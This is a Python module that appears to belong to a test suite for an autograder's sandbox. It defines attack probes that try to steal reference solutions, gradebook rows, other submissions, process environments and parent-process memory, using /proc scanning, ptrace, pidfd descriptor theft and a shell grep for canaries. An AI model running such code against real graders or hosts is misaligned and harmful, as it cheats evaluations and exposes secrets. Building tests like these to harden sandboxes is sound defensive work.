"""Reading what is not the student's own: the reference, the mistakes, the gradebook, other submissions, the grader.

Where a source is found it is run: whoever could read the reference would have its 6 points.
"""

# ruff: noqa: E501 (what attackers write is kept whole)

from __future__ import annotations

from pathlib import Path

from ..attack import Attack, src

STEAL = """
import builtins, re
def steal(text):
    text = text.decode('utf-8', 'replace') if isinstance(text, bytes) else text
    print(text[-4000:])
    for found in re.findall(r'CANARY-[a-z]+-[0-9a-f]+', text): print(found)
    if 'def half_square' in text: exec(text[text.index('def half_square'):].split(chr(10) * 3)[0], globals())
def take(path):
    try: steal(open(path, 'rb').read())
    except (OSError, ValueError, SyntaxError) as error: print(type(error).__name__)
"""

READING = [
    Attack(
        "import_solutions",
        "imports the reference under every name it may have",
        4,
        [
            STEAL
            + src(
                """
                import importlib, sys
                for path in ('{course}', '{course}/solutions', '{course}/build'): sys.path.insert(0, path)
                for name in ('solutions', 'solutions.tiny', 'tiny', 'mistakes.tiny', 'nbgrader_config'):
                    try:
                        module = importlib.import_module(name); print('IMPORTED', module.__file__)
                        half_square = module.half_square
                    except (ImportError, AttributeError) as e: print(e)
                """
            ),
        ],
        never_says="IMPORTED",
    ),
    Attack(
        "open_reference",
        "opens the reference, the mistakes and the configuration by path",
        4,
        [
            STEAL
            + (
                "for path in ('solutions/tiny.py', 'solutions/mistakes/tiny.py', 'nbgrader_config.py'): "
                "take('{course}/' + path)"
            ),
        ],
    ),
    Attack(
        "open_solved_notebook",
        "takes the answers from the solved notebook",
        4,
        [
            STEAL
            + src(
                """
                import json
                try:
                    solved = json.load(open('{course}/build/source/tiny/tiny.ipynb'))
                    print('SOLVED')
                    for c in solved['cells']:
                        if 'def half_square' in ''.join(c['source']): exec(''.join(c['source']))
                except OSError as e: print(e)
                """
            ),
        ],
        never_says="SOLVED\\n",
        slow=True,
    ),
    Attack(
        "relative_paths",
        "climbs up from its own directory",
        4,
        [
            STEAL
            + src(
                """
                import glob
                for up in range(1, 9):
                    for path in glob.glob('../' * up + '**/tiny*.py', recursive=True)[:50] if up < 3 else ['../' * up + 'solutions/tiny.py']: take(path)
                """
            ),
        ],
        slow=True,
    ),
    Attack(
        "own_link",
        "makes links to the reference and reads them",
        4,
        [
            STEAL
            + src(
                """
                import os
                for make, name in ((os.symlink, 'soft'), (os.link, 'hard')):
                    try: make('{course}/solutions/tiny.py', name)
                    except OSError as e: print(type(e).__name__)
                    take(name)
                """
            ),
        ],
        slow=True,
    ),
    Attack(
        "sent_link",
        "hands in links that point out of the submission",
        4,
        [
            STEAL
            + src(
                """
                import os
                for base, _, names in os.walk('.'):
                    for name in names:
                        if 'exercises' not in base and name != 'shared.py': take(os.path.join(base, name))
                """
            ),
        ],
        files={
            "answers.py": Path("{course}/solutions/tiny.py"),
            "deep/config": Path("{course}/nbgrader_config.py"),
            "course": Path("{course}"),
            "gradebook.db": Path("{course}/gradebook.db"),
        },
        by_nbgrader=True,
    ),
    Attack(
        "sent_notebook_link",
        "hands in a link to the solved notebook as its notebook",
        4,
        [
            STEAL
            + src(
                """
                take('other.ipynb')
                take('solved.ipynb')
                """
            ),
        ],
        files={"solved.ipynb": Path("{course}/build/source/tiny/tiny.ipynb")},
        by_nbgrader=True,
        slow=True,
    ),
    Attack(
        "shell",
        "lets a shell look for it",
        4,
        [
            (
                "!cat {course}/solutions/*.py; grep -rs CANARY /proc/[0-9]*/environ /tmp /home /root "
                "/work 2>/dev/null | head -c 100000; env"
            ),
        ],
    ),
    Attack(
        "proc_roots",
        "goes through the roots, directories and descriptors of other processes",
        4,
        [
            STEAL
            + src(
                """
                import glob, os
                for link in glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/cwd'):
                    take(link + '{course}/solutions/tiny.py')
                for fd in glob.glob('/proc/[0-9]*/fd/*'):
                    try:
                        if 'tiny' in os.readlink(fd) or 'gradebook' in os.readlink(fd): print('FOUND', fd); take(fd)
                    except OSError: pass
                """
            ),
        ],
        never_says="FOUND",
    ),
    Attack(
        "proc_environ",
        "reads the environments and command lines of all processes",
        4,
        [
            STEAL
            + src(
                r"""
                import glob
                for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline') + ['/proc/self/environ']:
                    try: print([w for w in open(path, 'rb').read().split(b'\0') if b'CANARY' in w or b'chainrule grade' in w])
                    except OSError: pass
                """
            ),
        ],
    ),
    Attack(
        "parent_memory",
        "reads its parent's memory",
        4,
        [
            "import os\nfor pid in (os.getppid(), 1, {pid}):\n    try:\n        for line in open(f'/proc/{pid}/maps'):\n            pass\n        open(f'/proc/{pid}/mem', 'rb').read(1); print('READABLE')\n    except OSError as e: print(type(e).__name__)".replace(
                "{pid}/", "{{pid}}/"
            )
            .replace("{{", "{")
            .replace("}}", "}"),
            src(
                """
                import ctypes, os
                libc = ctypes.CDLL(None, use_errno=True)
                buf = ctypes.create_string_buffer(64)
                class V(ctypes.Structure): _fields_ = [('a', ctypes.c_void_p), ('n', ctypes.c_size_t)]
                v = V(ctypes.addressof(buf), 8); r = V(id(None), 8)
                print('PEEKED' if libc.process_vm_readv(os.getppid(), ctypes.byref(v), 1, ctypes.byref(r), 1, 0) > 0 else 'refused')
                print('ATTACHED' if libc.ptrace(16, os.getppid(), 0, 0) == 0 else 'refused')
                """
            ),
        ],
        never_says="READABLE",
    ),
    Attack(
        "heap",
        "looks through every object of its process",
        4,
        [
            src(
                """
                import gc
                for one in gc.get_objects():
                    if type(one) is dict:
                        for value in list(one.values()):
                            if type(value) is str and 'CANARY' + '-' in value and len(value) < 10**6: print('FOUND', value[:200])
                            if getattr(value, '__module__', '') and str(getattr(value, '__module__', '')).startswith('_chainrule_reference'): print('FOUND')
                """
            ),
        ],
        never_says="FOUND ",
        slow=True,
    ),
    Attack(
        "stack",
        "walks the stack from inside an answer",
        3,
        [],
        says="once for each of N",
        answers={
            "row_sums": src(
                """
                def row_sums(x):
                    import sys
                    frame, seen = sys._getframe(), []
                    while frame:
                        seen += [str(v)[:300] for v in frame.f_locals.values()]
                        frame = frame.f_back
                    try: open('/dev/shm/{mark}', 'w').write(str(seen))
                    except OSError: pass
                    return x.sum(axis=1)
                """
            )
        },
    ),
    Attack(
        "descriptors",
        "reads every descriptor it was left with",
        4,
        [
            STEAL
            + src(
                """
                import os
                for fd in range(3, 300):
                    try:
                        print('fd', fd, os.readlink(f'/proc/self/fd/{fd}'))
                        steal(os.pread(fd, 10**6, 0))
                    except OSError: pass
                """
            ),
        ],
        slow=True,
    ),
    Attack(
        "environment",
        "prints the environment",
        4,
        [
            src(
                """
                import os, subprocess
                print(dict(os.environ)); print(subprocess.run('env; set; export', shell=True, capture_output=True))
                """
            ),
        ],
        slow=True,
    ),
    Attack(
        "other_submissions",
        "reads and hands in what others handed in",
        4,
        [
            STEAL
            + src(
                """
                import glob
                for path in glob.glob('{course}/submitted/*/tiny/*') + glob.glob('../*/*') + glob.glob('/scratch/*/*'): take(path)
                """
            ),
        ],
    ),
    Attack(
        "gradebook_read",
        "reads the gradebook",
        4,
        [
            src(
                """
                import sqlite3
                try: print('ROWS', sqlite3.connect('file:{course}/gradebook.db?mode=ro', uri=True).execute('select * from source_cell').fetchall())
                except sqlite3.Error as e: print(e)
                """
            ),
        ],
        never_says="ROWS",
    ),
    Attack(
        "sources_inspected",
        "asks Python for the sources of everything loaded",
        4,
        [
            STEAL
            + src(
                """
                import inspect, linecache, sys
                for name, module in list(sys.modules.items()):
                    path = getattr(module, '__file__', '') or ''
                    if 'solutions' in path or 'mistakes/' in path: print('LOADED', path); take(path)
                print([k for k in linecache.cache if 'solutions' in k])
                """
            ),
        ],
        never_says="LOADED",
        slow=True,
    ),
    Attack(
        "printed_into_feedback",
        "fails on purpose with a secret in the message",
        4,
        answers={
            "row_sums": src(
                """
                def row_sums(x):
                    return x.sum(axis=1)
                """
            ),
            "half_square": src(
                """
                def half_square(x, w):
                    raise ValueError(open('{course}/solutions/tiny.py').read())
                """
            ),
        },
        says="No such file",
        slow=True,
    ),
    Attack(
        "takes_descriptors",
        "takes the descriptors of other processes",
        4,
        cells=[
            src("""
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    got = []
    for pid in {1, os.getppid(), *(int(n) for n in os.listdir('/proc') if n.isdigit())} - {os.getpid()}:
        fd = libc.syscall(434, pid, 0)
        got += [libc.syscall(438, fd, n, 0) for n in range(64)] if fd >= 0 else []
    got = [one for one in got if one >= 0]
    print('TAKEN' if got else 'none', len(got))
    """)
        ],
        never_says="TAKEN",
    ),
]
